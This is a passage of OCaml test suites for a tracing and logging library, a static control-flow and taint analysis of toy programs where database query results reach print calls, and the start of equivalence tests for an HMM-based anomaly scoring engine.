    (fun (cap, xs) ->
      let r = Ring.create cap in
      List.iter (Ring.push r) xs;
      let n = List.length xs in
      let expected = List.filteri (fun i _ -> i >= n - cap) xs in
      Ring.to_list r = expected
      && Ring.pushed r = n
      && Ring.length r = List.length expected)

(* --- clock ------------------------------------------------------------- *)

let test_clock_monotone () =
  let a = Clock.monotonic_ns () in
  let b = Clock.monotonic_ns () in
  Alcotest.(check bool) "non-decreasing" true (Int64.compare b a >= 0);
  Alcotest.(check bool) "elapsed_s non-negative" true (Clock.elapsed_s a b >= 0.0)

(* --- structured log ---------------------------------------------------- *)

let test_log_threshold_and_ring () =
  let saved = Log.threshold () in
  Log.set_threshold Log.Info;
  let ring = Ring.create 8 in
  Log.emit ~ring Log.Debug ~scope:"t" "dropped below threshold";
  Alcotest.(check int) "debug dropped" 0 (Ring.pushed ring);
  Log.emit ~ring
    ~fields:[ ("n", Log.Int 7); ("ok", Log.Bool true) ]
    Log.Warn ~scope:"t" "kept";
  Alcotest.(check int) "warn kept" 1 (Ring.pushed ring);
  (match Ring.to_list ring with
  | [ e ] ->
      Alcotest.(check string) "scope" "t" e.Log.scope;
      Alcotest.(check string) "message" "kept" e.Log.message
  | l -> Alcotest.failf "expected one event, got %d" (List.length l));
  Log.set_threshold saved

let test_log_json_shape () =
  let e =
    {
      Log.time = 1.5;
      level = Log.Error;
      scope = "daemon.shard0";
      message = "a \"quoted\"\nmessage";
      fields = [ ("x", Log.Float 0.25); ("who", Log.Str "me") ];
    }
  in
  let json = Log.event_to_json e in
  List.iter
    (fun needle ->
      Alcotest.(check bool) (Printf.sprintf "contains %s" needle) true
        (contains needle json))
    [
      "\"level\":\"error\"";
      "\"scope\":\"daemon.shard0\"";
      "\\\"quoted\\\"\\n";
      "\"x\":0.25";
      "\"who\":\"me\"";
    ];
  Alcotest.(check bool) "single line" true (not (String.contains json '\n'))

let test_level_round_trip () =
  List.iter
    (fun l ->
      Alcotest.(check bool) "round trips" true
        (Log.level_of_string (Log.level_to_string l) = Some l))
    [ Log.Debug; Log.Info; Log.Warn; Log.Error ];
  Alcotest.(check bool) "unknown rejected" true (Log.level_of_string "loud" = None)

(* --- tracer ------------------------------------------------------------ *)

type tree = Node of tree list

let tree_gen =
  QCheck2.Gen.(
    sized
    @@ fix (fun self n ->
           if n <= 0 then pure (Node [])
           else
             list_size (int_bound 3) (self (n / 4)) >|= fun kids -> Node kids))

let rec count_nodes (Node kids) =
  1 + List.fold_left (fun acc k -> acc + count_nodes k) 0 kids

let rec exec_tree depth (Node kids) =
  Trace.with_span (Printf.sprintf "d%d" depth) (fun () ->
      List.iter (exec_tree (depth + 1)) kids)

let span_end sp = Int64.add sp.Trace.start_ns sp.Trace.dur_ns

let prop_span_tree_well_formed =
  QCheck2.Test.make
    ~name:"with_span: unique ids, one trace id, parents contain children"
    ~count:100 tree_gen
    (fun tree ->
      Trace.set_enabled true;
      Trace.clear ();
      exec_tree 0 tree;
      Trace.set_enabled false;
      let spans = Trace.spans () in
      let ids = List.map (fun sp -> sp.Trace.span_id) spans in
      let by_id = List.map (fun sp -> (sp.Trace.span_id, sp)) spans in
      let roots = List.filter (fun sp -> sp.Trace.parent = None) spans in
      List.length spans = count_nodes tree
      && List.length (List.sort_uniq compare ids) = List.length ids
      && List.length roots = 1
      && (match roots with
         | [ root ] ->
             List.for_all
               (fun sp -> sp.Trace.trace_id = root.Trace.span_id)
               spans
         | _ -> false)
      && List.for_all
           (fun sp ->
             match sp.Trace.parent with
             | None -> true
             | Some pid -> (
                 match List.assoc_opt pid by_id with
                 | None -> false
                 | Some parent ->
                     parent.Trace.start_ns <= sp.Trace.start_ns
                     && span_end sp <= span_end parent))
           spans)

let prop_disabled_records_nothing =
  QCheck2.Test.make ~name:"disabled tracer: no spans, thunk still runs"
    ~count:50 tree_gen
    (fun tree ->
      Trace.set_enabled false;
      Trace.clear ();
      let ran = ref 0 in
      Trace.with_span "outer" (fun () ->
          exec_tree 1 tree;
          incr ran);
      !ran = 1 && Trace.span_count () = 0 && Trace.current_trace_id () = None)

let test_span_on_exception () =
  Trace.set_enabled true;
  Trace.clear ();
  (try Trace.with_span "boom" (fun () -> failwith "expected") with
  | Failure _ -> ());
  Trace.set_enabled false;
  (match Trace.spans () with
  | [ sp ] -> Alcotest.(check string) "span recorded" "boom" sp.Trace.name
  | l -> Alcotest.failf "expected one span, got %d" (List.length l));
  Alcotest.(check bool) "context unwound" true (Trace.current_span_id () = None)

let test_attrs_lazy () =
  Trace.set_enabled false;
  Trace.clear ();
  let calls = ref 0 in
  let attrs () =
    incr calls;
    [ ("k", "v") ]
  in
  Trace.with_span ~attrs "off" (fun () -> ());
  Alcotest.(check int) "attrs not evaluated when disabled" 0 !calls;
  Trace.set_enabled true;
  let result = ref "" in
  Trace.with_span
    ~attrs:(fun () ->
      incr calls;
      [ ("result", !result) ])
    "on"
    (fun () -> result := "computed");
  Trace.set_enabled false;
  Alcotest.(check int) "attrs evaluated once when enabled" 1 !calls;
  match Trace.spans () with
  | [ sp ] ->
      (* the attrs thunk runs after the body, so it sees the result *)
      Alcotest.(check (list (pair string string)))
        "attrs see the thunk's outcome"
        [ ("result", "computed") ]
        sp.Trace.attrs
  | l -> Alcotest.failf "expected one span, got %d" (List.length l)

let test_hooks () =
  Trace.set_enabled true;
  Trace.clear ();
  let seen = ref [] in
  let h = Trace.on_span_end (fun sp -> seen := sp.Trace.name :: !seen) in
  Trace.with_span "a" (fun () -> Trace.with_span "b" (fun () -> ()));
  Alcotest.(check (list string)) "hook saw both, completion order" [ "a"; "b" ] !seen;
  Trace.remove_hook h;
  Trace.with_span "c" (fun () -> ());
  Alcotest.(check (list string)) "removed hook is silent" [ "a"; "b" ] !seen;
  (* a raising hook is disabled, not fatal *)
  let h2 = Trace.on_span_end (fun _ -> failwith "bad hook") in
  Trace.with_span "d" (fun () -> ());
  Trace.with_span "e" (fun () -> ());
  Trace.remove_hook h2;
  Trace.set_enabled false;
  Alcotest.(check int) "spans still recorded past a raising hook" 5
    (Trace.span_count ())

let test_bounded_buffer () =
  Trace.set_capacity 4;
  Trace.set_enabled true;
  for i = 0 to 9 do
    Trace.with_span (Printf.sprintf "s%d" i) (fun () -> ())
  done;
  Trace.set_enabled false;
  Alcotest.(check int) "retained bounded" 4 (List.length (Trace.spans ()));
  Alcotest.(check int) "all finishes counted" 10 (Trace.span_count ());
  Alcotest.(check (list string)) "newest kept" [ "s6"; "s7"; "s8"; "s9" ]
    (List.map (fun sp -> sp.Trace.name) (Trace.spans ()));
  Trace.set_capacity 65536

let test_chrome_json_shape () =
  Trace.set_capacity 65536;
  Trace.set_enabled true;
  Trace.clear ();
  Trace.with_span "parent"
    ~attrs:(fun () -> [ ("app", "hospital") ])
    (fun () -> Trace.with_span "child" (fun () -> ()));
  Trace.set_enabled false;
  let json = Trace.to_chrome_json (Trace.spans ()) in
  List.iter
    (fun needle ->
      Alcotest.(check bool) (Printf.sprintf "contains %s" needle) true
        (contains needle json))
    [
      "\"traceEvents\":[";
      "\"ph\":\"X\"";
      "\"name\":\"parent\"";
      "\"name\":\"child\"";
      "\"cat\":\"adprom\"";
      "\"app\":\"hospital\"";
      "\"parent\":";
      "\"displayTimeUnit\":\"ms\"";
    ];
  (* timestamps are relative to the earliest span: the root starts at 0 *)
  Alcotest.(check bool) "relative timestamps" true (contains "\"ts\":0.000" json)

let () =
  Alcotest.run "obs"
    [
      ( "ring",
        [
          Alcotest.test_case "bounded push/to_list/clear" `Quick test_ring_basics;
          Alcotest.test_case "zero capacity discards" `Quick test_ring_zero_capacity;
          QCheck_alcotest.to_alcotest prop_ring_keeps_last_capacity;
        ] );
      ( "clock",
        [ Alcotest.test_case "monotone non-decreasing" `Quick test_clock_monotone ] );
      ( "log",
        [
          Alcotest.test_case "threshold gating and ring capture" `Quick
            test_log_threshold_and_ring;
          Alcotest.test_case "JSONL event shape" `Quick test_log_json_shape;
          Alcotest.test_case "level round trip" `Quick test_level_round_trip;
        ] );
      ( "trace properties",
        [
          QCheck_alcotest.to_alcotest prop_span_tree_well_formed;
          QCheck_alcotest.to_alcotest prop_disabled_records_nothing;
        ] );
      ( "trace",
        [
          Alcotest.test_case "span recorded on exception" `Quick test_span_on_exception;
          Alcotest.test_case "attrs lazy, post-body" `Quick test_attrs_lazy;
          Alcotest.test_case "hooks fan out and detach" `Quick test_hooks;
          Alcotest.test_case "bounded span buffer" `Quick test_bounded_buffer;
          Alcotest.test_case "Chrome trace_event shape" `Quick test_chrome_json_shape;
        ] );
    ]

(* Tests for the static analysis substrate: CFG construction, call
   graph / SCCs, and the interprocedural taint (DDG) labeling. *)

module Ast = Applang.Ast
module Parser = Applang.Parser
module Cfg = Analysis.Cfg
module Cfg_build = Analysis.Cfg_build
module Callgraph = Analysis.Callgraph
module Taint = Analysis.Taint
module Symbol = Analysis.Symbol

let build src = Cfg_build.build_program (Parser.parse_program src)

let cfg_of src name = List.assoc name (fst (build src))

(* --- cfg ----------------------------------------------------------------- *)

let test_cfg_straight_line () =
  let cfg = cfg_of "fun main() { printf(\"a\"); puts(\"b\"); }" "main" in
  Alcotest.(check int) "entry, 2 calls, exit" 4 (List.length (Cfg.node_ids cfg));
  Alcotest.(check bool) "is a dag" true (Cfg.is_dag cfg);
  let calls = List.map (fun (_, s) -> s.Cfg.callee) (Cfg.call_nodes cfg) in
  Alcotest.(check (list string)) "call order" [ "printf"; "puts" ] calls

let test_cfg_one_call_per_node () =
  let cfg = cfg_of "fun main() { printf(\"%s\", strcat(a(), b())); }" "main" in
  (* a, b, strcat, printf: four call nodes in evaluation order *)
  let calls = List.map (fun (_, s) -> s.Cfg.callee) (Cfg.call_nodes cfg) in
  Alcotest.(check (list string)) "nested calls split into nodes"
    [ "a"; "b"; "strcat"; "printf" ] calls

let test_cfg_if_shape () =
  let cfg = cfg_of "fun main() { if (x > 0) { printf(\"t\"); } else { puts(\"e\"); } }" "main" in
  (* entry, cond, 2 call nodes, join, exit *)
  Alcotest.(check int) "node count" 6 (List.length (Cfg.node_ids cfg));
  let cond =
    List.find
      (fun id -> match (Cfg.node cfg id).Cfg.event with Cfg.E_cond _ -> true | _ -> false)
      (Cfg.node_ids cfg)
  in
  Alcotest.(check int) "cond has two successors" 2 (Cfg.out_degree cfg cond)

let test_cfg_while_back_edge () =
  let cfg = cfg_of "fun main() { while (x > 0) { printf(\"l\"); } puts(\"end\"); }" "main" in
  Alcotest.(check bool) "is a dag after redirect" true (Cfg.is_dag cfg);
  Alcotest.(check int) "one back edge recorded" 1 (List.length cfg.Cfg.back_edges);
  let src, dst = List.hd cfg.Cfg.back_edges in
  (match (Cfg.node cfg dst).Cfg.event with
  | Cfg.E_cond _ -> ()
  | _ -> Alcotest.fail "back edge targets the loop condition");
  match (Cfg.node cfg src).Cfg.event with
  | Cfg.E_call site -> Alcotest.(check string) "from the body" "printf" site.Cfg.callee
  | _ -> Alcotest.fail "back edge leaves the body"

let test_cfg_for_continue_break () =
  let cfg =
    cfg_of
      {|
        fun main() {
          for (let i = 0; i < 9; i = i + 1) {
            if (i == 2) { continue; }
            if (i == 5) { break; }
            printf("x");
          }
        }
      |}
      "main"
  in
  Alcotest.(check bool) "still a dag" true (Cfg.is_dag cfg);
  Alcotest.(check bool) "back edges recorded" true (List.length cfg.Cfg.back_edges >= 1)

let test_cfg_return_reaches_exit () =
  let cfg = cfg_of "fun main() { if (x > 0) { return; } printf(\"after\"); }" "main" in
  let returns =
    List.filter
      (fun id -> match (Cfg.node cfg id).Cfg.event with Cfg.E_return _ -> true | _ -> false)
      (Cfg.node_ids cfg)
  in
  List.iter
    (fun r ->
      Alcotest.(check bool) "return connects to exit" true
        (List.mem cfg.Cfg.exit (Cfg.successors cfg r)))
    returns

let test_cfg_sites_registered () =
  let cfgs, sites = build "fun main() { printf(\"%d\", strlen(\"x\")); }" in
  let cfg = List.assoc "main" cfgs in
  List.iter
    (fun (id, site) ->
      match Cfg.Sites.block_of sites site.Cfg.call_expr with
      | Some bid -> Alcotest.(check int) "site maps to its node" id bid
      | None -> Alcotest.fail "unregistered call site")
    (Cfg.call_nodes cfg)

let test_cfg_ids_globally_unique () =
  let cfgs, _ = build "fun main() { f(); } fun f() { printf(\"x\"); }" in
  let all = List.concat_map (fun (_, cfg) -> Cfg.node_ids cfg) cfgs in
  Alcotest.(check int) "no shared ids across functions"
    (List.length all)
    (List.length (List.sort_uniq compare all))

(* --- callgraph ------------------------------------------------------------ *)

let cg_src =
  {|
    fun main() { a(); b(); }
    fun a() { c(); }
    fun b() { c(); rec(3); }
    fun c() { printf("leaf"); }
    fun rec(n) { if (n > 0) { rec(n - 1); } }
    fun dead() { a(); }
  |}

let test_callgraph_edges () =
  let cfgs, _ = build cg_src in
  let cg = Callgraph.build cfgs in
  Alcotest.(check (list string)) "main calls" [ "a"; "b" ] (Callgraph.callees cg "main");
  Alcotest.(check (list string)) "callers of c" [ "a"; "b" ] (List.sort compare (Callgraph.callers cg "c"));
  Alcotest.(check (list string)) "leaf calls nothing" [] (Callgraph.callees cg "c")

let test_callgraph_sccs_leaf_first () =
  let cfgs, _ = build cg_src in
  let cg = Callgraph.build cfgs in
  let order = List.concat (Callgraph.sccs cg) in
  let pos name =
    let rec go i = function
      | [] -> Alcotest.failf "%s not in SCC order" name
      | x :: rest -> if x = name then i else go (i + 1) rest
    in
    go 0 order
  in
  Alcotest.(check bool) "c before a" true (pos "c" < pos "a");
  Alcotest.(check bool) "a before main" true (pos "a" < pos "main");
  Alcotest.(check bool) "b before main" true (pos "b" < pos "main")

let test_callgraph_recursion () =
  let cfgs, _ = build cg_src in
  let cg = Callgraph.build cfgs in
  Alcotest.(check (list string)) "self recursion detected" [ "rec" ]
    (Callgraph.recursive_partners cg "rec");
  Alcotest.(check (list string)) "non-recursive is clean" [] (Callgraph.recursive_partners cg "a");
  (* mutual recursion *)
  let cfgs, _ = build "fun main() { ping(1); } fun ping(n) { pong(n); } fun pong(n) { ping(n); }" in
  let cg = Callgraph.build cfgs in
  Alcotest.(check (list string)) "mutual recursion partners" [ "pong" ]
    (Callgraph.recursive_partners cg "ping")

(* --- taint / DDG ----------------------------------------------------------- *)

let labeled_sinks src =
  let cfgs, _ = build src in
  let result = Taint.analyze cfgs in
  result.Taint.labeled_blocks

let test_taint_direct_flow () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let r = pq_exec(conn, "SELECT * FROM t");
          printf("%s", pq_getvalue(r, 0, 0));
          printf("clean");
        }
      |}
  in
  Alcotest.(check int) "exactly the tainted printf" 1 (List.length labels)

let test_taint_string_propagation () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let r = pq_exec(conn, "q");
          let s = strcat("prefix: ", pq_getvalue(r, 0, 0));
          puts(s);
        }
      |}
  in
  Alcotest.(check int) "taint flows through strcat" 1 (List.length labels)

let test_taint_strong_update () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let s = pq_getvalue(pq_exec(conn, "q"), 0, 0);
          s = "now clean";
          printf("%s", s);
        }
      |}
  in
  Alcotest.(check int) "reassignment clears taint" 0 (List.length labels)

let test_taint_loop_carried () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let y = "clean";
          while (c > 0) {
            printf("%s", y);
            y = pq_getvalue(pq_exec(conn, "q"), 0, 0);
          }
        }
      |}
  in
  (* The print is tainted on the second iteration: the may-analysis must
     follow the back edge. *)
  Alcotest.(check int) "loop-carried taint found" 1 (List.length labels)

let test_taint_interprocedural_param () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let r = pq_exec(conn, "q");
          show(pq_getvalue(r, 0, 0));
          show("constant");
        }
        fun show(v) { printf("%s", v); }
      |}
  in
  (* show's printf may receive targeted data (joined over call sites). *)
  Alcotest.(check int) "tainted through a parameter" 1 (List.length labels)

let test_taint_interprocedural_return () =
  let labels =
    labeled_sinks
      {|
        fun fetch() {
          let r = pq_exec(conn, "q");
          return pq_getvalue(r, 0, 0);
        }
        fun main() { printf("%s", fetch()); }
      |}
  in
  Alcotest.(check int) "tainted through a return value" 1 (List.length labels)

let test_taint_summaries () =
  let cfgs, _ =
    build
      {|
        fun source() { return pq_getvalue(pq_exec(conn, "q"), 0, 0); }
        fun echo(x) { return x; }
        fun konst(x) { return 1; }
        fun main() { printf("%s", echo(source())); printf("%d", konst(source())); }
      |}
  in
  let result = Taint.analyze cfgs in
  let summary name = List.assoc name result.Taint.summaries in
  Alcotest.(check bool) "source has const taint" true (summary "source").Taint.const_taint;
  Alcotest.(check bool) "echo propagates params" true
    (Array.exists Fun.id (summary "echo").Taint.param_taint);
  Alcotest.(check bool) "echo has no const taint" false (summary "echo").Taint.const_taint;
  Alcotest.(check bool) "konst never returns taint" false
    (Array.exists Fun.id (summary "konst").Taint.param_taint);
  Alcotest.(check int) "only the echo printf is labeled" 1
    (List.length result.Taint.labeled_blocks)

let test_taint_mysql_flow () =
  let labels =
    labeled_sinks
      {|
        fun main() {
          let ok = mysql_query(conn, "SELECT * FROM t");
          let res = mysql_store_result(conn);
          let row = mysql_fetch_row(res);
          printf("%s", row[0]);
          printf("%d", ok);
        }
      |}
  in
  Alcotest.(check int) "mysql pipeline labels one printf" 1 (List.length labels)

let test_taint_idempotent () =
  let cfgs, _ =
    build "fun main() { printf(\"%s\", pq_getvalue(pq_exec(conn, \"q\"), 0, 0)); }"
  in
  let r1 = Taint.analyze cfgs in
  let r2 = Taint.analyze cfgs in
  Alcotest.(check (list int)) "re-analysis is stable" r1.Taint.labeled_blocks
    r2.Taint.labeled_blocks

(* --- exports ----------------------------------------------------------------- *)

let contains ~needle hay =
  let n = String.length needle and h = String.length hay in
  let rec probe i = i + n <= h && (String.sub hay i n = needle || probe (i + 1)) in
  n = 0 || probe 0

let export_src =
  {|
    fun main() {
      let r = pq_exec(conn, "q");
      if (x > 0) {
        printf("%s", pq_getvalue(r, 0, 0));
      }
      while (y > 0) {
        puts("tick");
      }
      helper();
    }
    fun helper() { puts("h"); }
  |}

let test_cfg_to_dot () =
  let cfgs, _ = build export_src in
  let result = Taint.analyze cfgs in
  ignore result;
  let dot = Analysis.Export.cfg_to_dot (List.assoc "main" cfgs) in
  Alcotest.(check bool) "digraph" true (contains ~needle:"digraph" dot);
  Alcotest.(check bool) "labeled site highlighted" true (contains ~needle:"_Q" dot);
  Alcotest.(check bool) "back edge dashed" true (contains ~needle:"style=dashed" dot);
  Alcotest.(check bool) "cond diamond" true (contains ~needle:"diamond" dot)

let test_ctm_to_dot () =
  let a = Analysis.Analyzer.analyze (Parser.parse_program export_src) in
  let dot = Analysis.Export.ctm_to_dot ~threshold:0.0 a.Analysis.Analyzer.pctm in
  Alcotest.(check bool) "pq_exec node present" true (contains ~needle:"pq_exec" dot);
  Alcotest.(check bool) "edge weights" true (contains ~needle:"label=\"0." dot);
  let sparse = Analysis.Export.ctm_to_dot ~threshold:10.0 a.Analysis.Analyzer.pctm in
  Alcotest.(check bool) "threshold filters all edges" false (contains ~needle:"->" sparse)

(* --- dominators and loops ------------------------------------------------ *)

let test_dominator_basics () =
  let cfg =
    cfg_of
      "fun main() { let x = scanf(); if (x > 0) { puts(\"t\"); } else { puts(\"e\"); } printf(\"%s\", x); }"
      "main"
  in
  let dom = Analysis.Dominator.compute cfg in
  let entry = cfg.Cfg.entry in
  List.iter
    (fun id ->
      Alcotest.(check bool)
        (Printf.sprintf "entry dominates %d" id)
        true
        (Analysis.Dominator.dominates dom entry id);
      Alcotest.(check bool)
        (Printf.sprintf "%d dominates itself" id)
        true
        (Analysis.Dominator.dominates dom id id))
    (Cfg.node_ids cfg);
  Alcotest.(check bool) "entry has no idom" true
    (Analysis.Dominator.idom dom entry = None)

let test_loops_detects_while () =
  let cfg = cfg_of "fun main() { while (x > 0) { printf(\"l\"); } puts(\"end\"); }" "main" in
  match Analysis.Loops.analyze cfg with
  | [ l ] ->
      (match (Cfg.node cfg l.Analysis.Loops.header).Cfg.event with
      | Cfg.E_cond _ -> ()
      | _ -> Alcotest.fail "header is the loop condition");
      Alcotest.(check bool) "body has >= 2 nodes" true
        (List.length l.Analysis.Loops.body >= 2);
      Alcotest.(check bool) "has an exit edge" true (l.Analysis.Loops.exits <> [])
  | ls -> Alcotest.failf "expected exactly one loop, got %d" (List.length ls)

let test_loops_straight_line_has_none () =
  let cfg = cfg_of "fun main() { printf(\"a\"); }" "main" in
  Alcotest.(check int) "no loops" 0 (List.length (Analysis.Loops.analyze cfg))

(* --- qcheck properties over generated programs --------------------------- *)

(* Random programs where DB taint reaches helpers through varying
   argument positions: the per-argument refinement has to agree with
   the coarse whole-function summaries on what is a sink, minus the
   false positives of coarseness. *)
let taint_prog_gen =
  let open QCheck2.Gen in
  let arg = oneofl [ "t"; "c"; "\"lit\"" ] in
  let helper_body =
    oneofl
      [
        "printf(\"%s\", p0);";
        "printf(\"%s\", p1);";
        "return p0;";
        "return p1;";
        "return strcat(p0, p1);";
        "puts(\"x\"); return \"k\";";
      ]
  in
  let* nhelpers = int_range 1 3 in
  let* bodies = list_repeat nhelpers helper_body in
  let stmt =
    let* h = int_range 0 (nhelpers - 1) in
    let* a0 = arg in
    let* a1 = arg in
    oneofl
      [
        Printf.sprintf "h%d(%s, %s);" h a0 a1;
        Printf.sprintf "t = h%d(%s, %s);" h a0 a1;
        Printf.sprintf "printf(\"%%s\", %s);" a0;
      ]
  in
  let* stmts = list_size (int_range 1 5) stmt in
  let buf = Buffer.create 256 in
  Buffer.add_string buf "fun main() {\n";
  Buffer.add_string buf "  let conn = db_connect(\"pg\");\n";
  Buffer.add_string buf "  let t = pq_exec(conn, \"SELECT x\");\n";
  Buffer.add_string buf "  let c = scanf();\n";
  List.iter (fun s -> Buffer.add_string buf ("  " ^ s ^ "\n")) stmts;
  Buffer.add_string buf "}\n";
  List.iteri
    (fun i body -> Buffer.add_string buf (Printf.sprintf "fun h%d(p0, p1) { %s }\n" i body))
    bodies;
  pure (Buffer.contents buf)

let prop_per_arg_refines_coarse =
  QCheck2.Test.make ~name:"per-arg taint refines coarse summaries" ~count:100
    ~print:Fun.id taint_prog_gen (fun src ->
      let fine = Taint.analyze ~per_arg:true (fst (build src)) in
      let coarse = Taint.analyze ~per_arg:false (fst (build src)) in
      List.for_all
        (fun b -> List.mem b coarse.Taint.labeled_blocks)
        fine.Taint.labeled_blocks
      && List.for_all
           (fun (name, (s : Taint.summary)) ->
             let sc = List.assoc name coarse.Taint.summaries in
             (not s.Taint.const_taint) || sc.Taint.const_taint)
           fine.Taint.summaries
      && List.for_all
           (fun (name, (s : Taint.summary)) ->
             let sc = List.assoc name coarse.Taint.summaries in
             Array.for_all2 (fun fine_bit coarse_bit -> (not fine_bit) || coarse_bit)
               s.Taint.param_taint sc.Taint.param_taint)
           fine.Taint.summaries)

let prop_taint_idempotent =
  QCheck2.Test.make ~name:"Taint.analyze is idempotent" ~count:100 ~print:Fun.id
    taint_prog_gen (fun src ->
      let cfgs = fst (build src) in
      let first = Taint.analyze cfgs in
      let second = Taint.analyze cfgs in
      first.Taint.labeled_blocks = second.Taint.labeled_blocks
      && first.Taint.summaries = second.Taint.summaries)

let prop_reachability_sane =
  QCheck2.Test.make ~name:"forecast reachability: entry 1.0, values in [0,1]"
    ~count:25 ~print:string_of_int
    (QCheck2.Gen.int_range 0 9999)
    (fun seed ->
      let spec =
        {
          Dataset.Proggen.default with
          Dataset.Proggen.seed;
          functions = 6;
          statements_per_function = 8;
        }
      in
      let cfgs = fst (build (Dataset.Proggen.generate spec)) in
      List.for_all
        (fun (_, cfg) ->
          let reach = Analysis.Forecast.reachability cfg in
          List.for_all
            (fun (id, p) ->
              p >= -.1e-9
              && p <= 1.0 +. 1e-9
              && (id <> cfg.Cfg.entry || Float.abs (p -. 1.0) < 1e-9))
            reach)
        cfgs)

let test_callgraph_to_dot () =
  let cfgs, _ = build export_src in
  let dot = Analysis.Export.callgraph_to_dot (Callgraph.build cfgs) in
  Alcotest.(check bool) "edge main -> helper" true
    (contains ~needle:"\"main\" -> \"helper\"" dot)

let () =
  Alcotest.run "analysis"
    [
      ( "cfg",
        [
          Alcotest.test_case "straight line" `Quick test_cfg_straight_line;
          Alcotest.test_case "one call per node" `Quick test_cfg_one_call_per_node;
          Alcotest.test_case "if shape" `Quick test_cfg_if_shape;
          Alcotest.test_case "while back edge" `Quick test_cfg_while_back_edge;
          Alcotest.test_case "for with continue/break" `Quick test_cfg_for_continue_break;
          Alcotest.test_case "return reaches exit" `Quick test_cfg_return_reaches_exit;
          Alcotest.test_case "sites registered" `Quick test_cfg_sites_registered;
          Alcotest.test_case "globally unique block ids" `Quick test_cfg_ids_globally_unique;
        ] );
      ( "callgraph",
        [
          Alcotest.test_case "edges" `Quick test_callgraph_edges;
          Alcotest.test_case "leaf-first sccs" `Quick test_callgraph_sccs_leaf_first;
          Alcotest.test_case "recursion detection" `Quick test_callgraph_recursion;
        ] );
      ( "export",
        [
          Alcotest.test_case "cfg dot" `Quick test_cfg_to_dot;
          Alcotest.test_case "ctm dot" `Quick test_ctm_to_dot;
          Alcotest.test_case "callgraph dot" `Quick test_callgraph_to_dot;
        ] );
      ( "taint",
        [
          Alcotest.test_case "direct flow" `Quick test_taint_direct_flow;
          Alcotest.test_case "string propagation" `Quick test_taint_string_propagation;
          Alcotest.test_case "strong update" `Quick test_taint_strong_update;
          Alcotest.test_case "loop-carried flow" `Quick test_taint_loop_carried;
          Alcotest.test_case "interprocedural parameter" `Quick test_taint_interprocedural_param;
          Alcotest.test_case "interprocedural return" `Quick test_taint_interprocedural_return;
          Alcotest.test_case "function summaries" `Quick test_taint_summaries;
          Alcotest.test_case "mysql pipeline" `Quick test_taint_mysql_flow;
          Alcotest.test_case "idempotent" `Quick test_taint_idempotent;
        ] );
      ( "structure",
        [
          Alcotest.test_case "dominator basics" `Quick test_dominator_basics;
          Alcotest.test_case "while loop detected" `Quick test_loops_detects_while;
          Alcotest.test_case "straight line loop-free" `Quick
            test_loops_straight_line_has_none;
        ] );
      ( "properties",
        [
          QCheck_alcotest.to_alcotest prop_per_arg_refines_coarse;
          QCheck_alcotest.to_alcotest prop_taint_idempotent;
          QCheck_alcotest.to_alcotest prop_reachability_sane;
        ] );
    ]

(* The compiled scoring engine (Adprom.Scoring) against its
   specification (Detector.reference_classify): QCheck2 equivalence on
   random profiles and windows — flag, bit-for-bit score, unknown
   symbol/pair — including memo-hit re-scores and post-extend engines,
   plus unit tests for the LRU memo, threshold invalidation and the
   streaming ring. *)

module Scoring = Adprom.Scoring
module Detector = Adprom.Detector
module Profile = Adprom.Profile
module Window = Adprom.Window
module Reduction = Adprom.Reduction
module Symbol = Analysis.Symbol

(* --- random profiles built directly (training is too slow per case) -------- *)

let mk_symbol ~labeled i =
  if labeled then
    Symbol.Lib { name = Printf.sprintf "call%d" i; label = Some i; site = None }
  else Symbol.lib (Printf.sprintf "call%d" i)

let make_profile ~seed ~m ~n ~use_labels ~track_callers =
  let alphabet =
    (* a label-free view never has labeled symbols in its alphabet
       (training strips them before alphabet construction) *)
    Array.init m (fun i -> mk_symbol ~labeled:(use_labels && i mod 3 = 0) i)
  in
  let obs_index = Symbol.Table.create m in
  Array.iteri (fun i s -> Symbol.Table.replace obs_index s i) alphabet;
  let rng = Mlkit.Rng.create (seed + 1) in
  let model = Hmm.random ~rng ~n ~m in
  let known_pairs = Hashtbl.create 16 in
  Array.iteri
    (fun i s ->
      if (seed + i) mod 2 = 0 then
        Hashtbl.replace known_pairs (Printf.sprintf "c%d" (i mod 4), s) ())
    alphabet;
  {
    Profile.params =
      { Profile.default_params with Profile.use_labels; track_callers };
    alphabet;
    obs_index;
    model;
    threshold = -.float_of_int (1 + (seed mod 7));
    clustering =
      {
        Reduction.sites = alphabet;
        assignment = Array.make m 0;
        states = n;
        reduced = false;
      };
    known_pairs;
    csds_history = [];
    rounds_run = 0;
  }

(* window specs: per position, a symbol code and a caller id. Codes -1
   and -2 are foreign symbols (unlabeled / labeled) the profile never
   saw — the unknown-symbol path, which must bypass the memo. *)
let window_of_spec alphabet spec =
  let m = Array.length alphabet in
  let sym = function
    | -1 -> Symbol.lib "alien"
    | -2 -> Symbol.Lib { name = "alien_out"; label = Some 1; site = None }
    | s -> Symbol.observable alphabet.(s mod m)
  in
  {
    Window.obs = Array.of_list (List.map (fun (s, _) -> sym s) spec);
    callers =
      Array.of_list (List.map (fun (_, c) -> Printf.sprintf "c%d" c) spec);
  }

let verdict_eq (a : Detector.verdict) (b : Detector.verdict) =
  a.Detector.flag = b.Detector.flag
  && (a.Detector.score = b.Detector.score
     || (Float.is_nan a.Detector.score && Float.is_nan b.Detector.score))
  && a.Detector.unknown_symbol = b.Detector.unknown_symbol
  && a.Detector.unknown_pair = b.Detector.unknown_pair

let cfg_gen =
  QCheck2.Gen.(
    quad (int_bound 9999) (int_range 3 8) (int_range 2 5) (pair bool bool))

let specs_gen =
  QCheck2.Gen.(
    list_size (int_range 1 8)
      (list_size (int_range 0 25) (pair (int_range (-2) 9) (int_bound 3))))

let print_case ((seed, m, n, (ul, tc)), specs) =
  Printf.sprintf "seed=%d m=%d n=%d use_labels=%b track_callers=%b windows=%s"
    seed m n ul tc
    (String.concat "+" (List.map (fun s -> string_of_int (List.length s)) specs))

let prop_engine_matches_reference =
  QCheck2.Test.make
    ~name:"Scoring.classify = reference_classify (incl. memo hits)" ~count:80
    ~print:print_case
    QCheck2.Gen.(pair cfg_gen specs_gen)
    (fun ((seed, m, n, (use_labels, track_callers)), specs) ->
      let profile = make_profile ~seed ~m ~n ~use_labels ~track_callers in
      (* a tiny memo so eviction happens mid-property *)
      let engine = Scoring.create ~cache_capacity:4 profile in
      let windows = List.map (window_of_spec profile.Profile.alphabet) specs in
      List.for_all
        (fun w ->
